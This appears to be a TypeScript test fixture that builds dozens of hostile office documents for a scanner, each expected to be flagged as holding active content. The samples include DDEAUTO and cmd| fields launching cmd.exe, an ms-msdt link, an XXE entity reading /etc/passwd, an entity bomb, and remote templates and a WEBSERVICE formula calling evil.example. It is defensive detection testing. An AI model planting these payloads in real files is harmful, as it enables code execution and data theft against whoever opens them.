// Hostile office files: macros, objects, ways out, entities.
import type { Hostile } from './hostile.ts'
import {
  openParts,
  openText,
  relation,
  relations,
  rows,
  said,
  shape,
  sheetParts,
  slide,
  slideParts,
  word,
  wordParts,
  zipped,
} from './made.ts'

const out = 'TargetMode="External"'

export function actingDocuments(): readonly Hostile[] {
  const doc = (what: string, bytes: Buffer, name = 'a.docx'): Hostile => ({
    what,
    name,
    bytes,
    right: 'HoldsActiveContent',
  })
  const field = (order: string) =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${order
      .split('|')
      .map((piece) => `<w:r><w:instrText>${piece}</w:instrText></w:r>`)
      .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
  const entity = (dtd: string, use: string) =>
    zipped({
      ...wordParts(said('x')),
      'word/document.xml': `<?xml version="1.0"?><!DOCTYPE x [${dtd}]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${use}</w:t></w:r></w:p></w:body></w:document>`,
    })
  const laughs = Array.from(
    { length: 9 },
    (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`,
  ).join('')
  const book = (inside: string, workbook = '') =>
    zipped(sheetParts([{ name: 'A', inside }], ['x'], { workbook }))
  const deck = (relate: string, inside = '') =>
    zipped(
      slideParts([slide(shape('x') + inside)], {
        parts: { 'ppt/slides/_rels/slide1.xml.rels': relations(relate) },
      }),
    )
  return [
    doc(
      'macros',
      word(undefined, { mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    ),
    doc('macros under a quiet type', word(undefined, { parts: { 'word/vbaProject.bin': 'x' } })),
    doc('macros under another name', word(undefined, { parts: { 'word/theme1.dat': 'x' } })),
    doc(
      'macros by their relationship',
      word(undefined, {
        relations: [
          relation(
            'rId5',
            'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
            'x.xml',
          ),
        ],
        parts: { 'word/x.xml': '<a/>' },
      }),
    ),
    doc(
      'a template from elsewhere',
      word(undefined, {
        parts: {
          'word/settings.xml': '<w:settings xmlns:w="w"/>',
          'word/_rels/settings.xml.rels': relations(
            relation('rId1', 'attachedTemplate', 'http://evil.example/t.dotm', out),
          ),
        },
      }),
    ),
    doc(
      'a picture from elsewhere',
      word(undefined, { relations: [relation('rId5', 'image', 'http://evil.example/p.png', out)] }),
    ),
    doc(
      'a picture from a share',
      word(undefined, { relations: [relation('rId5', 'image', 'file://evil.example/p.png', out)] }),
    ),
    doc(
      'an object',
      word(undefined, {
        relations: [relation('rId5', 'oleObject', 'embeddings/oleObject1.bin')],
        parts: { 'word/embeddings/oleObject1.bin': 'x' },
      }),
    ),
    doc('ActiveX', word(undefined, { parts: { 'word/activeX/activeX1.xml': '<a/>' } })),
    doc(
      'another document poured in',
      word('<w:altChunk r:id="rId5"/>', {
        relations: [relation('rId5', 'aFChunk', 'x.xml')],
        parts: { 'word/x.xml': '<a/>' },
      }),
    ),
    doc(
      'a frame',
      word(undefined, { relations: [relation('rId5', 'frame', 'http://evil.example/', out)] }),
    ),
    doc(
      'a link to a script',
      word(undefined, { relations: [relation('rId5', 'hyperlink', 'javascript:alert(1)', out)] }),
    ),
    doc(
      'a link to a share',
      word(undefined, { relations: [relation('rId5', 'hyperlink', 'file://evil.example/a', out)] }),
    ),
    doc(
      'a link to a tool of the system',
      word(undefined, {
        relations: [relation('rId5', 'hyperlink', 'ms-msdt:/id PCWDiagnostic', out)],
      }),
    ),
    doc(
      'an order to another program',
      word(field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
    ),
    doc('the same order in pieces', word(field(' DD|EAU|TO c:\\\\cmd.exe "/k calc" '))),
    doc('a picture by a field', word(field(' INCLUDEPICTURE "http://evil.example/p.png" '))),
    doc(
      'a relationship under another prefix',
      word(undefined, {
        parts: {
          'word/_rels/footer1.xml.rels':
            '<x:Relationships xmlns:x="http://schemas.openxmlformats.org/package/2006/relationships"><x:Relationship Id="a" Type="http://x/attachedTemplate" Target="http://evil.example" TargetMode="External"/></x:Relationships>',
        },
      }),
    ),
    doc('entities that laugh', entity(`<!ENTITY l0 "ha">${laughs}`, '&l9;')),
    doc('an entity that reads a file', entity('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;')),
    doc(
      'an add-in from the web',
      word(undefined, { parts: { 'word/webextensions/taskpanes.xml': '<a/>' } }),
    ),
    doc('a program among the parts', word(undefined, { parts: { 'word/media/image1.exe': 'MZ' } })),
    doc(
      'a drawing with a script',
      word(undefined, {
        parts: { 'word/media/image1.svg': '<svg><script>alert(1)</script></svg>' },
      }),
    ),
    doc(
      'Excel with macros',
      zipped(
        sheetParts([{ name: 'A', inside: rows('') }], [], {
          mainType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
        }),
      ),
      'a.xlsx',
    ),
    doc(
      'macros of Excel 4',
      zipped(
        sheetParts([{ name: 'A', inside: rows('') }], [], {
          parts: { 'xl/macrosheets/sheet1.xml': '<a/>' },
        }),
      ),
      'a.xlsx',
    ),
    doc(
      'a formula that fetches',
      book(
        rows('<row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example/?"&amp;B1)</f></c></row>'),
      ),
      'a.xlsx',
    ),
    doc(
      'a formula that calls a program',
      book(rows('<row r="1"><c r="A1"><f>cmd|\'/c calc\'!A0</f></c></row>')),
      'a.xlsx',
    ),
    doc(
      'a name that runs when opened',
      book(
        rows(''),
        '<definedNames><definedName name="Auto_Open">A!$A$1</definedName></definedNames>',
      ),
      'a.xlsx',
    ),
    doc(
      'a connection to a database',
      zipped(
        sheetParts([{ name: 'A', inside: rows('') }], [], {
          parts: { 'xl/connections.xml': '<a/>' },
        }),
      ),
      'a.xlsx',
    ),
    doc(
      'a workbook elsewhere',
      zipped(
        sheetParts([{ name: 'A', inside: rows('') }], [], {
          parts: { 'xl/externalLinks/externalLink1.xml': '<a/>' },
        }),
      ),
      'a.xlsx',
    ),
    doc(
      'a film from elsewhere',
      deck(relation('rId5', 'video', 'http://evil.example/v.mp4', out)),
      'a.pptx',
    ),
    doc(
      'a button that starts a program',
      deck(
        relation('rId5', 'hyperlink', 'https://x.example', out),
        '<p:sp><a:hlinkClick r:id="rId5" action="ppaction://program"/></p:sp>',
      ),
      'a.pptx',
    ),
    doc(
      'Basic in an OpenDocument',
      zipped(openParts('<text:p>x</text:p>', { 'Basic/Standard/Module1.xml': '<a/>' }), 'mimetype'),
      'a.odt',
    ),
    doc(
      'an event in an OpenDocument',
      openText(
        '<text:p><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>x</text:p>',
      ),
      'a.odt',
    ),
    doc(
      'a picture from elsewhere in an OpenDocument',
      openText(
        '<text:p><draw:frame><draw:image xlink:href="http://evil.example/p.png"/></draw:frame></text:p>',
      ),
      'a.odt',
    ),
    doc(
      'an object in an OpenDocument',
      openText(
        '<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>',
      ),
      'a.odt',
    ),
  ]
}
